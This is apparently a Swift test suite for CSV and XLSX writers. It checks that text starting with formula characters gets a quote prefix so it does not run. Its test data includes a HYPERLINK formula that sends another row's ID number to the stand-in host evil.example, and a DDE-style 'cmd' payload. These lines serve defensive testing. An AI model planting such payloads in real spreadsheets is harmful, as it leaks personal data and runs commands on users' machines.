import Foundation
import LumbungDomain
import LumbungSheets
import Testing
import ZIPFoundation

/// Issue 12, finding 6: text from an uploaded file, written to a CSV or XLSX that a user opens in a
/// spreadsheet, must never run as a formula (`=HYPERLINK(…)` sent another row's NIK to an outside address).
@Suite struct FormulaInjectionTests {
    static let hyperlink = #"=HYPERLINK("http://evil.example/?"&C2,"klik")"#
    static let hostile = [hyperlink, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "=1", "+62 812-3456"]
    static let harmless = ["-5", "-8.58", "-8,58", "+6281234567", "1.234,5", "-1e5", "Jl. Raya - Gang 3", "a=b", "5203014508920001", "", "-", "--", "+"]

    @Test func formula_leading_text_gets_a_quote_and_numbers_stay_numbers() {
        for text in Self.hostile {
            #expect(FormulaGuard.neutralised(text) == "'" + text, "\(text)")
        }
        for text in Self.harmless {
            #expect(FormulaGuard.neutralised(text) == text, "\(text)")
        }
    }

    @Test func the_csv_writer_neutralises_every_formula_cell_but_writes_negative_numbers() throws {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("f-\(UUID()).csv")
        defer { try? FileManager.default.removeItem(at: url) }
        let writer = try CSVTableWriter(url: url, delimiter: ";")
        try writer.write(Self.hostile.map { Cell.text($0) })
        try writer.write([.number(-5), .text("-8,58"), .text("=1+1")])
        try writer.finish()
        var rows: [SheetRow] = []
        try CSVSheetReader(url: url).forEachRow { rows.append($0) }
        #expect(rows[0].values.map(\.text) == Self.hostile.map { "'" + $0 })
        #expect(rows[1].values.map(\.text) == ["-5", "-8,58", "'=1+1"])
        let text = try String(contentsOf: url, encoding: .utf8)
        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&C2,""klik"")""#))
    }

    @Test func csv_fields_written_by_hand_are_neutralised_and_quoted() {
        #expect(CSVField.text(Self.hyperlink) == #""'=HYPERLINK(""http://evil.example/?""&C2,""klik"")""#)
        #expect(CSVField.text("Lombok Timur") == "Lombok Timur")
        #expect(CSVField.text("-12") == "-12")
        #expect(CSVField.text("@x;y", delimiter: ";") == "\"'@x;y\"")
    }

    @Test func the_xlsx_writer_keeps_formula_text_as_text_with_a_quote_prefix() throws {
        let folder = try XLSXTableWriterTests.folder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let url = folder.appendingPathComponent("f.xlsx")
        let writer = try XLSXTableWriter(url: url, sheetName: "Ditolak")
        try writer.write([.text(Self.hyperlink), .number(-5), .text("-8,58"), .text("biasa")])
        try writer.finish()
        let archive = try Archive(url: url, accessMode: .read)
        func part(_ path: String) throws -> String {
            var data = Data()
            _ = try archive.extract(try #require(archive[path])) { data.append($0) }
            return String(decoding: data, as: UTF8.self)
        }
        let sheet = try part("xl/worksheets/sheet1.xml")
        #expect(sheet.contains(#"<c r="A1" s="2" t="inlineStr"><is><t>=HYPERLINK("http://evil.example/?"&amp;C2,"klik")</t></is></c>"#))
        #expect(sheet.contains(#"<c r="B1"><v>-5</v></c>"#) && sheet.contains(#"<c r="C1" t="inlineStr">"#) && !sheet.contains("<f>"))
        #expect(try part("xl/styles.xml").contains(#"<cellXfs count="3">"#) && part("xl/styles.xml").contains(#"quotePrefix="1""#))
        var rows: [SheetRow] = []
        try XLSXSheetReader(url: url).forEachRow { rows.append($0) }
        #expect(rows[0].values == [.text(Self.hyperlink), .number("-5"), .text("-8,58"), .text("biasa")])
    }
}
